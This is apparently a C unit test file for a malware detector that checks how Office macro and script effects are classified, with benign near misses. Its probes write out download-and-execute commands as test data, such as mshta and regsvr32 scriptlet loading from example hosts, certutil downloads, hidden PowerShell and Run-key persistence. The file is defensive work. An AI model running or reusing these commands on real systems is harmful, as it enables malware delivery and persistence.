/* The grammar of effects: each row of chains.def with what it proves and a near miss that it must not. */
#include "../test.h"
#include "base/text.h"
#include "detect/chains.h"
#include "detect/effect_conditions.h"
#include "model/detector.h"
#include "model/limits.h"

extern const sk_detector sk_detect_effects;

enum { ARGS = 6, BEFORE = 4 };

typedef struct probe {
    const char *name;
    uint16_t open;      /* a script by itself: true of PowerShell, or its kind; else a macro in a document */
    uint16_t op;
    sk_arg args[ARGS];
    struct { uint16_t op; sk_arg args[3]; } before[BEFORE];
    uint16_t evidence;  /* SK_EV_COUNT: none */
} probe;

static size_t count_args(const sk_arg *args, size_t most)
{
    size_t n = 0;
    while (n < most && args[n].name.len) n++;
    return n;
}

static void check(const probe *p)
{
    sk_limits limits = sk_limits_default();
    sk_report *r = sk_report_new(&limits, 1 << 20);
    sk_artifact root = {.parent = SK_NO_ARTIFACT, .kind = p->open > 1 ? p->open : p->open ? SK_KIND_SCRIPT_POWERSHELL : SK_KIND_OFFICE_DOC};
    sk_artifact macro = {.parent = 0, .depth = 1, .relation = SK_REL_MACRO, .kind = SK_KIND_MACRO_VBA};
    (void)sk_report_add_artifact(r, &root);
    uint32_t at = p->open ? 0 : sk_report_add_artifact(r, &macro);
    for (size_t i = 0; i < BEFORE && p->before[i].args[0].name.len; i++)
        sk_report_add_effect(r, &(sk_effect){.op = p->before[i].op, .artifact = at, .args = p->before[i].args, .arg_count = count_args(p->before[i].args, 3)});
    sk_report_add_effect(r, &(sk_effect){.op = p->op, .artifact = at, .args = p->args, .arg_count = count_args(p->args, ARGS)});
    sk_view v = {.report = r, .arena = sk_report_arena(r)};
    sk_detect_effects.conclude(&v);
    size_t all;
    const sk_evidence *e = sk_report_evidence(r, &all);
    bool found = p->evidence == SK_EV_COUNT ? all == 0 : all == 1 && e[0].id == p->evidence;
    if (!found) print_message("%s: %zu evidence, first %s\n", p->name, all, all ? sk_evidence_row_of(e[0].id)->id : "-");
    assert_true(found);
    sk_report_free(r);
}

#define A(n, v) {SK_LIT_INIT(n), SK_LIT_INIT(v)}
#define SK_LIT_INIT(s) {(const uint8_t *)(s), sizeof(s) - 1}
#define NONE SK_EV_COUNT
#define EV(name) SK_EV_EFFECT_##name

static const probe probes[] = {
    /* exceptions */
    {"an address in a browser", false, SK_OP_RUN, {A("command", "https://a.example/help"), A("flow", "computed")}, {{0}}, NONE},
    {"a folder", false, SK_OP_RUN, {A("command", "explorer.exe C:\\Orders\\12"), A("flow", "computed")}, {{0}}, NONE},
    {"a text in its editor", false, SK_OP_RUN, {A("command", "notepad.exe c:\\x.txt"), A("path", "c:\\x.txt"), A("flow", "document computed unknown")}, {{0}}, NONE},
    {"a document by its link", false, SK_OP_RUN, {A("command", "{Range.Value}"), A("via", "FollowHyperlink"), A("flow", "document unknown")}, {{0}}, NONE},
    {"a script with a document as argument is no document", false, SK_OP_RUN,
     {A("command", "\"C:\\t\\a.jse\" invoice.doc"), A("path", "C:\\t\\a.jse"), A("flow", "document unknown")}, {{0}}, EV(UNPACK_RUN)},
    {"a viewer that shows a shortcut starts it", false, SK_OP_RUN, {A("command", "explorer C:\\u\\a.lnk"), A("path", "C:\\u\\a.lnk"), A("flow", "computed")}, {{0}}, EV(UNPACK_RUN)},
    {"an administrator's script", true, SK_OP_RUN, {A("command", "msiexec /i https://a.example/x.msi")}, {{0}}, NONE},
    {"an add-in copied as a whole", false, SK_OP_REPLICATE, {A("source", "C:\\a\\tool.xlam"), A("target", "C:\\u\\AddIns\\tool.xlam")}, {{0}}, NONE},
    {"a module imported", false, SK_OP_REPLICATE, {A("source", "own code"), A("target", "project.Import")}, {{0}}, NONE},
    {"a form that mails itself", false, SK_OP_REPLICATE, {A("source", "form.xls"), A("target", "mail attachment")}, {{0}}, NONE},
    {"a literal command without code", false, SK_OP_RUN, {A("command", "taskkill /im x.exe")}, {{0}}, EV(ACTS)},
    {"the same behind a button", false, SK_OP_RUN, {A("command", "cmd /c start tool.exe"), A("trigger", "click")}, {{0}}, NONE},
    {"a workbook that fetches data", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/rates"), A("via", "Open")}, {{0}}, NONE},
    /* (a) */
    {"a file from the network", false, SK_OP_RUN, {A("command", "c:\\x.dat"), A("path", "c:\\x.dat"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"a library from the network", false, SK_OP_LOAD, {A("path", "c:\\x.dat"), A("flow", "network unknown")}, {{0}}, EV(FETCH_RUN)},
    {"a script's text from the network", false, SK_OP_RUN, {A("command", "text of http://a.example"), A("via", "Invoke-Expression"), A("flow", "network unknown")}, {{0}}, EV(FETCH_RUN)},
    {"a script that hides what it starts", true, SK_OP_RUN, {A("path", "c:\\x.dat"), A("flow", "network computed")}, {{0}}, EV(FETCH_RUN)},
    {"an open installer", true, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, NONE},
    {"the same in a batch file", SK_KIND_SCRIPT_BATCH, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, NONE},
    {"the same in VBScript", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"the same in JScript", SK_KIND_SCRIPT_JAVASCRIPT, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"the same in an HTML application", SK_KIND_SCRIPT_HTA, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"the same in a script file", SK_KIND_SCRIPT_WSF, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"the same in a scriptlet", SK_KIND_SCRIPT_SCRIPTLET, SK_OP_RUN, {A("path", "c:\\setup.msi"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"a library of the network in VBScript", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "regsvr32 /s x.dll"), A("path", "x.dll"), A("flow", "network")}, {{0}}, EV(FETCH_RUN)},
    {"a program that fetches, in VBScript", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "mshta http://a.example/x")}, {{0}}, EV(FETCH_RUN)},
    {"a literal command of a VBScript by itself", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "net use z: \\\\server\\share")}, {{0}}, NONE},
    {"a calculated command of a VBScript by itself", SK_KIND_SCRIPT_VBSCRIPT, SK_OP_RUN, {A("command", "cmd /c dir"), A("flow", "computed")}, {{0}}, NONE},
    {"an answer that names a workbook", false, SK_OP_RUN, {A("command", "{answer}.xlsm"), A("flow", "network unknown")}, {{0}}, NONE},
    {"a decoded file", false, SK_OP_RUN, {A("command", "c:\\x.dat"), A("path", "c:\\x.dat"), A("flow", "decoded")}, {{0}}, EV(UNPACK_RUN)},
    {"code in memory", false, SK_OP_RUN, {A("command", "code in memory"), A("path", "memory"), A("flow", "computed")}, {{0}}, EV(UNPACK_RUN)},
    {"a script kept in the document", false, SK_OP_RUN, {A("command", "c:\\x.jse"), A("path", "c:\\x.jse"), A("flow", "document unknown")}, {{0}}, EV(UNPACK_RUN)},
    {"a program kept in the code", false, SK_OP_RUN, {A("command", "c:\\x.exe"), A("path", "c:\\x.exe")}, {{0}}, EV(UNPACK_RUN)},
    {"a script put together", false, SK_OP_RUN, {A("command", "c:\\x.vbs"), A("path", "c:\\x.vbs"), A("flow", "computed")}, {{0}}, EV(UNPACK_RUN)},
    {"a text kept in the document", false, SK_OP_RUN, {A("command", "c:\\x.txt"), A("path", "c:\\x.txt"), A("flow", "document")}, {{0}}, NONE},
    /* (b) */
    {"mshta with an address", false, SK_OP_RUN, {A("command", "mshta http://a.example/x")}, {{0}}, EV(FETCH_RUN)},
    {"a scriptlet", false, SK_OP_RUN, {A("command", "regsvr32 /s /u /i:http://a.example/x scrobj.dll"), A("trigger", "click")}, {{0}}, EV(FETCH_RUN)},
    {"an own library registered", false, SK_OP_RUN, {A("command", "regsvr32 /s C:\\u\\own.dll"), A("trigger", "click"), A("flow", "environment")}, {{0}}, NONE},
    {"mshta's own fetch", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/x"), A("via", "mshta")}, {{0}}, EV(FETCH_RUN)},
    {"a program beside the document", false, SK_OP_RUN, {A("command", "E:\\x.exe"), A("path", "E:\\x.exe"), A("beside", "yes")}, {{0}}, EV(ACTS)},
    {"rundll32 with a script", false, SK_OP_RUN, {A("command", "rundll32 javascript:alert(1)")}, {{0}}, EV(FETCH_RUN)},
    {"certutil", false, SK_OP_RUN, {A("command", "certutil -urlcache -f http://a.example/x x")}, {{0}}, EV(FETCH_RUN)},
    {"an interpreter, calculated", false, SK_OP_RUN, {A("command", "powershell -w 1 nosuch"), A("flow", "computed")}, {{0}}, EV(RUN_HIDDEN)},
    {"an interpreter, out of the document", false, SK_OP_RUN, {A("command", "C:\\Windows\\System32\\mshta.exe nosuch"), A("flow", "document")}, {{0}}, EV(RUN_HIDDEN)},
    {"an interpreter, with a part that is not known", false, SK_OP_RUN, {A("command", "cmd /c {Cells.Value}"), A("flow", "document unknown")}, {{0}}, EV(RUN_OPAQUE)},
    {"an interpreter, to be read", false, SK_OP_RUN, {A("command", "powershell -w 1 nosuch"), A("trigger", "click")}, {{0}}, NONE},
    {"a name that only holds one", false, SK_OP_RUN, {A("command", "mycmdtool.exe x"), A("trigger", "click"), A("flow", "computed")}, {{0}}, NONE},
    {"a calculated command of a script by itself", true, SK_OP_RUN, {A("command", "cmd /c dir"), A("flow", "computed")}, {{0}}, NONE},
    {"several hosts, then a start", false, SK_OP_RUN, {A("command", "rundll32 x.dll,Go"), A("flow", "environment")},
     {{SK_OP_DOWNLOAD, {A("url", "http://a.example/1"), A("via", "Open")}}, {SK_OP_DOWNLOAD, {A("url", "http://b.invalid/2"), A("via", "Open")}},
      {SK_OP_DOWNLOAD, {A("url", "https://c.test/3"), A("via", "Open")}}}, EV(DOWNLOADER)},
    {"one host three times", false, SK_OP_RUN, {A("command", "rundll32 x.dll,Go"), A("flow", "environment")},
     {{SK_OP_DOWNLOAD, {A("url", "http://a.example/1"), A("via", "Open")}}, {SK_OP_DOWNLOAD, {A("url", "http://www.a.example/2"), A("via", "Open")}},
      {SK_OP_DOWNLOAD, {A("url", "https://a.example/3"), A("via", "Open")}}}, EV(ACTS)},
    /* (c), (d) */
    {"own code into a template", false, SK_OP_REPLICATE, {A("source", "own code"), A("target", "Normal template.CodeModule")}, {{0}}, EV(SPREAD)},
    {"a file as the template", false, SK_OP_REPLICATE, {A("source", "C:\\a\\x.doc"), A("target", "C:\\u\\Templates\\Normal.dot")}, {{0}}, EV(SPREAD)},
    {"who opened it", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/?u=admin"), A("flow", "identity")}, {{0}}, EV(IDENTITY_SENT)},
    {"to the own network", false, SK_OP_DOWNLOAD, {A("url", "http://intranet:80/?u=admin"), A("flow", "identity")}, {{0}}, NONE},
    {"on a click", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/?u=admin"), A("flow", "identity"), A("trigger", "click")}, {{0}}, NONE},
    /* E2 */
    {"something not known", false, SK_OP_RUN, {A("command", "{Form1.Tag}"), A("via", "Shell"), A("flow", "document unknown")}, {{0}}, EV(RUN_OPAQUE)},
    {"a named program with an argument that is not known", false, SK_OP_RUN,
     {A("command", "eventcreate /D {Cells.Value}"), A("program", "eventcreate"), A("flow", "document unknown")}, {{0}}, EV(ACTS)},
    {"on a click, not known", false, SK_OP_RUN, {A("command", "{Form1.Tag}"), A("via", "Shell"), A("flow", "document unknown"), A("trigger", "click")}, {{0}}, NONE},
    {"a hidden command", false, SK_OP_RUN, {A("command", "zzgh.exe 4"), A("flow", "computed")}, {{0}}, EV(RUN_OPAQUE)},
    {"a hidden argument", false, SK_OP_RUN, {A("command", "eventcreate /D x1"), A("program", "eventcreate"), A("flow", "computed")}, {{0}}, EV(ACTS)},
    {"a program fetched and kept", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/x"), A("path", "C:\\u\\x.exe")}, {{0}}, EV(FETCH_KEPT)},
    {"a program written from the network", false, SK_OP_WRITE, {A("path", "C:\\u\\x.ps1"), A("flow", "network unknown")}, {{0}}, EV(FETCH_KEPT)},
    {"a picture fetched and kept", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/x"), A("path", "C:\\u\\x.png")}, {{0}}, NONE},
    {"a beacon", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/x"), A("via", "WinHttp.WinHttpRequest.5.1")}, {{0}}, EV(BEACON)},
    {"an answer that is read", false, SK_OP_DOWNLOAD, {A("url", "http://a.example/x"), A("via", "MSXML2.XMLHTTP")}, {{SK_OP_READ, {A("path", "http://a.example/x")}}}, NONE},
    {"inside of the own network", false, SK_OP_DOWNLOAD, {A("url", "http://10.1.2.3/x"), A("via", "MSXML2.XMLHTTP")}, {{0}}, NONE},
    {"a Run key", false, SK_OP_PERSIST, {A("how", "run-key"), A("target", "HKCU\\x")}, {{0}}, EV(STAYS)},
    {"an add-in's place", false, SK_OP_PERSIST, {A("how", "template"), A("target", "C:\\x")}, {{0}}, NONE},
};

static void each_probe(void **state)
{
    (void)state;
    for (size_t i = 0; i < SK_COUNT(probes); i++) check(&probes[i]);
}

/* Each evidence of the table is proven by a probe, and each row can be reached: no row above takes all that it takes. */
static void each_row_is_reached(void **state)
{
    (void)state;
    for (size_t i = 0; i < sk_chain_count; i++) {
        bool proven = sk_chains[i].evidence == SK_EV_COUNT;
        for (size_t k = 0; k < SK_COUNT(probes) && !proven; k++) proven = probes[k].evidence == sk_chains[i].evidence;
        assert_true(proven);
        bool reached = false;
        for (uint16_t op = 0; op < SK_OP_COUNT && !reached; op++)
            for (unsigned more = 0; more <= SK_CONDITION_COUNT && !reached; more++)
                reached = sk_chain_of(op, sk_chains[i].all | (more < SK_CONDITION_COUNT ? 1u << more : 0u)) == &sk_chains[i];
        if (!reached) print_message("row %zu: %s\n", i + 1, sk_chains[i].what);
        assert_true(reached);
        assert_int_equal(sk_chains[i].all & sk_chains[i].none, 0);
    }
}

static void conditions_have_names(void **state)
{
    (void)state;
    const char *what = NULL;
    for (size_t i = 0; i < SK_CONDITION_COUNT; i++) {
        assert_non_null(sk_condition_name(i, &what));
        assert_true(what[0]);
    }
    assert_null(sk_condition_name(SK_CONDITION_COUNT, &what));
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(each_probe), cmocka_unit_test(each_row_is_reached), cmocka_unit_test(conditions_have_names)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
